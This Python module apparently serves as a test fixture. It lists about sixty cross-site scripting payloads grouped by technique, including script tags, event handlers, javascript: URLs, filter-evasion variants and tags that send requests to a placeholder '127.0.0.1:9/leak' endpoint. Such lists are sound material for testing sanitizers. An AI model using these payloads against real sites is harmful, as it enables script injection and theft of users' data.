"""Sixty ways to make a page run what it should show, in the classes that cheat sheets list."""

from __future__ import annotations

_CALL = "alert(1)"
_URL = "http://127.0.0.1:9/leak"

PAYLOADS = (
    # script elements, whole, broken, nested, in odd letters
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script src={_URL}></script>",
    f"<script>/*\n*/{_CALL}//</script>",
    f"<script\x0c>{_CALL}</script>",
    f"<script type=module>{_CALL}</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href='data:text/javascript,{_CALL}'/></svg>",
    # event handlers
    f"<img src=x onerror={_CALL}>",
    f"<img src={_URL} onload={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}><summary>x</summary></details>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<div onpointerover={_CALL} style='position:fixed;inset:0'>x</div>",
    f"<a href=# onclick={_CALL} autofocus onfocus={_CALL}>x</a>",
    f"<style onload={_CALL}></style>",
    f"<object data=x onerror={_CALL}></object>",
    # addresses that run
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<iframe src='javascript:{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<embed src='javascript:{_CALL}'>",
    f"<form action='javascript:{_CALL}'><button>x</button></form>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>",
    f"<math><a xlink:href='javascript:{_CALL}'>x</a></math>",
    f"javascript:{_CALL}",
    # requests that leave
    f"<img src='{_URL}'>",
    f"<link rel=stylesheet href='{_URL}'>",
    f"<link rel=prefetch href='{_URL}'>",
    f"<style>@import '{_URL}';</style>",
    f"<style>body{{background:url({_URL})}}</style>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<base href='{_URL}'>",
    f"<iframe src='{_URL}'></iframe>",
    f"<object data='{_URL}'></object>",
    f"<video poster='{_URL}' src='{_URL}'></video>",
    f"<form action='{_URL}'><input type=submit autofocus></form>",
    f"<svg><image href='{_URL}'/></svg>",
    f"<svg><use href='{_URL}#x'/></svg>",
    # out of attributes, comments, blocks, templates
    f'" onmouseover={_CALL} x="',
    f"' onfocus={_CALL} autofocus x='",
    f"--><img src=x onerror={_CALL}>",
    f"]]><img src=x onerror={_CALL}>",
    f"</title><img src=x onerror={_CALL}>",
    f"</style><img src=x onerror={_CALL}>",
    f"</textarea><img src=x onerror={_CALL}>",
    f"</noscript><img src=x onerror={_CALL}>",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"\u202e>tpircs/<{_CALL}>tpircs<",
    f"\x00<\x00img src=x onerror={_CALL}>",
)
